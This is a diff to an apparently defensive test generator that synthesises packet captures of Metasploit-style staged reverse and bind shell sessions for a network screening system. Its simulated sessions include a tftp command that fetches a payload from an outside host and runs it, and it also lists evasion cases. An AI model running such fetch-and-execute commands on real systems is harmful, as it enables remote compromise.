@@ -770,19 +770,32 @@ def case_shell_long_line():
     return cap
 
 
-def case_shell_stager():
-    """A Metasploit-style reverse shell on 4321: the stage, then the banner."""
-    cap = Capture()
-    sh = Shell(cap, aport=4321, vport=1032, reverse=True)
+def staged_shell(sh, stage_len, name):
+    """A Metasploit-style stager session: 4 bytes of length and the stage from the
+    attacker, then the victim's banner, a GET of name and a run of it."""
     sh.open()
-    stage = stage_bytes(240)
+    stage = stage_bytes(stage_len)
     sh.data("a", len(stage).to_bytes(4, "little"))
-    sh.data("a", stage)
+    sh.data("a", stage, chunk=1460)
     sh.victim_says(BANNER)
-    sh.type("tftp -i 81.132.114.254 GET stage2.exe", [("get", "stage2.exe", ATTACKER)],
+    sh.type("tftp -i 81.132.114.254 GET " + name, [("get", name, ATTACKER)],
             output=b"Transfer successful: 512 bytes in 1 second, 512 bytes/s\r\n")
-    sh.type("stage2.exe", [("exec", "stage2.exe")])
+    sh.type(name, [("exec", name)])
     sh.close()
+
+
+def case_shell_stager():
+    """A reverse shell on 4321: a 240-byte stage, then the banner."""
+    cap = Capture()
+    staged_shell(Shell(cap, aport=4321, vport=1032, reverse=True), 240, "stage2.exe")
+    return cap
+
+
+def case_shell_stager_long():
+    """A bind shell on 5555 whose 3000-byte stage (over the screening window) comes
+    before the victim's banner: screening waits until the victim speaks."""
+    cap = Capture()
+    staged_shell(Shell(cap, aport=1101, vport=5555), 3000, "stage3.exe")
     return cap
 
 
@@ -1009,6 +1022,7 @@ CASES = {
     "shell-ftp-interactive": case_shell_ftp_interactive,
     "shell-long-line": case_shell_long_line,
     "shell-stager": case_shell_stager,
+    "shell-stager-long": case_shell_stager_long,
     "evasion-forged-syn": case_forged_syn,
     "evasion-tcp-checksum": insertion({"chksum": 0xdead}),
     "evasion-ip-checksum": insertion({"ipchksum": 0xdead}),
